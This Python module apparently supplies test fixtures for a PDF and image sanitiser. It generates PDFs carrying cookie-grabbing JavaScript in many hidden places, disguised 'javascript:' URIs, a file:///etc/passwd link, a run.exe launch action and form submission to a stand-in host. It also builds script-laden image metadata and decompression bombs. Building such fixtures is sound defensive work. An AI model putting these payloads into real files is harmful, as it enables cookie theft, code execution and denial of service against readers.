"""Papers as people send them: still ones, and some in which everything acts that can."""

import zlib
from io import BytesIO

import pikepdf
from pikepdf import Array, AttachedFileSpec, Dictionary, Name, Object, Pdf, Permissions, String
from PIL import Image

SCRIPT = "top.location=document.cookie"
"""What must be nowhere in a copy for the screen."""
HTML = b"<script>alert('attached')</script>"


def a_still_pdf(text: str = "a bill") -> bytes:
    """A page with a text."""
    with Pdf.new() as pdf:
        pdf.add_blank_page()
        pdf.pages[0].obj.Contents = pdf.make_stream(f"BT ({text}) Tj ET".encode())
        return _saved(pdf)


def an_active_pdf() -> bytes:
    """A page with a link to the web and one within, and all that acts, much of it in streams of objects."""
    with Pdf.new() as pdf:
        pdf.add_blank_page()
        page = pdf.pages[0].obj
        script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(SCRIPT)))
        in_stream = Dictionary(S=Name.JavaScript, JS=pdf.make_stream(SCRIPT.encode()))
        disguised = Dictionary(Type=Name.StructElem, S=Name.JavaScript, JS=String(SCRIPT))
        pdf.Root.OpenAction = script
        pdf.Root.AA = Dictionary(WC=script)
        pdf.Root.Names = Dictionary(
            JavaScript=Dictionary(Kids=Array([Dictionary(Names=Array([String("a"), in_stream]))]))
        )
        pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(f"<xdp>{SCRIPT}</xdp>".encode()))
        pdf.Root.AcroForm.Unheard = disguised
        pdf.Root.Metadata = pdf.make_stream(f"<x>{SCRIPT}</x>".encode())
        pdf.Root.Unheard = Dictionary(Of=disguised)
        pdf.attachments["page.html"] = AttachedFileSpec(pdf, HTML, filename="page.html")
        attached = Dictionary(Type=Name.Filespec, F=String("run.exe"), EF=Dictionary(F=pdf.make_stream(HTML)))
        page.AA = Dictionary(O=script)
        page.Contents = pdf.make_stream(b"BT (a bill) Tj ET")
        page.Annots = Array([_annotation(pdf, Name.Link, A=action) for action in _actions(page, disguised)])
        page.Annots.append(_annotation(pdf, Name.FileAttachment, FS=attached))
        page.Annots.append(_annotation(pdf, Name.Link, A=Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]))))
        page.Annots.append(_annotation(pdf, Name.Link, PA=script, AA=Dictionary(U=script, Fo=disguised)))
        for kind in ("/RichMedia", "/3D", "/Movie", "/Screen", "/Sound", "/Unheard"):
            page.Annots.append(_annotation(pdf, Name(kind), A=script, RichMediaContent=attached))
        return _saved(pdf)


def _actions(page: Object, disguised: Object) -> list[Object]:
    elsewhere = String("http://elsewhere.example/take")
    return [
        Dictionary(S=Name.URI, URI=String("https://www.gov.gr/")),
        Dictionary(S=Name.URI, URI=String(f" java\nscript:{SCRIPT}")),
        Dictionary(S=Name.URI, URI=String(f"JavaScript:{SCRIPT}")),
        Dictionary(S=Name.URI, URI=String("file:///etc/passwd")),
        Dictionary(S=Name.Launch, F=String("run.exe")),
        Dictionary(S=Name.SubmitForm, F=elsewhere),
        Dictionary(S=Name.ImportData, F=elsewhere),
        Dictionary(S=Name.GoToR, F=elsewhere, D=Array([0, Name.Fit])),
        Dictionary(S=Name.GoToE, F=elsewhere, D=Array([0, Name.Fit])),
        Dictionary(S=Name.Rendition, JS=String(SCRIPT)),
        Dictionary(S=Name.Unheard, F=elsewhere),
        Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]), Next=Array([disguised])),
        disguised,
    ]


def a_locked_pdf(*, password: str = "secret") -> bytes:
    """A page that opens with a password; with the empty one it opens for everybody."""
    with Pdf.new() as pdf:
        pdf.add_blank_page()
        target = BytesIO()
        locked = pikepdf.Encryption(owner="owner", user=password, allow=Permissions(print_highres=False))
        pdf.save(target, encryption=locked)
        return target.getvalue()


def a_pdf_of_many_objects(count: int) -> bytes:
    """A small page, and so many objects that the file names."""
    target, places = BytesIO(), []
    target.write(b"%PDF-1.5\n")
    named = b" ".join(b"%d 0 R" % number for number in range(5, count + 5))
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/Outlines 4 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        b"<</X[" + named + b"]>>",
        *[b"<<>>"] * count,
    ]
    for number, content in enumerate(objects, start=1):
        places.append(target.tell())
        target.write(b"%d 0 obj%sendobj\n" % (number, content))
    table = target.tell()
    target.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    target.writelines(b"%010d 00000 n \n" % place for place in places)
    target.write(b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, table))
    return target.getvalue()


def a_picture(kind: str, *, orientation: int = 1) -> bytes:
    """Four by two points, with scripts in all that the format has beside the picture, and after its end."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010E] = SCRIPT
    target = BytesIO()
    with Image.new("RGB", (4, 2), "navy") as image:
        image.save(target, format=kind, exif=exif, xmp=SCRIPT.encode(), comment=SCRIPT.encode())
    return target.getvalue() + f"<html>{SCRIPT}".encode()


def a_picture_that_explodes() -> bytes:
    """A few kilobytes that are many millions of points."""
    target = BytesIO()
    with Image.new("1", (20_000, 20_000)) as image:
        image.save(target, format="PNG")
    return target.getvalue()


def written_out(content: bytes) -> bytes:
    """A PDF with its streams and its streams of objects written out; anything else as it is."""
    if not content.startswith(b"%PDF"):
        return content
    target = BytesIO()
    with pikepdf.open(BytesIO(content)) as pdf:
        pdf.save(target, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return target.getvalue()


def a_pdf_that_explodes() -> bytes:
    """A few kilobytes whose stream of objects is 2 GB."""
    size = 2_000_000_000
    block = zlib.compressobj(9)
    deflated = block.compress(bytes(size // 200)) + block.flush(zlib.Z_FULL_FLUSH)
    # Of zeros the checksum is known (RFC 1950, section 9); the last block is empty.
    whole = deflated[:2] + deflated[2:] * 200 + b"\x03\x00" + (size % 65521 << 16 | 1).to_bytes(4)
    stream = zlib.compress(whole, 9)
    target = BytesIO()
    target.write(b"%PDF-1.5\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length ")
    target.write(b"%d>>stream\n%sendstream endobj\n" % (len(stream), stream))
    table = target.tell()
    rows = bytes([0, 0, 0, 0, 1, 0, 9, 0, 2, 0, 1, 0, 1]) + table.to_bytes(2) + b"\0"
    target.write(b"3 0 obj<</Type/XRef/Size 4/W[1 2 1]/Root 2 0 R/Length 16>>stream\n")
    target.write(rows + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % table)
    return target.getvalue()


def _annotation(pdf: Pdf, kind: Name, **entries: Object) -> Object:
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=kind, Rect=Array([0, 0, 9, 9]), **entries))


def _saved(pdf: Pdf) -> bytes:
    target = BytesIO()
    pdf.save(target, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return target.getvalue()
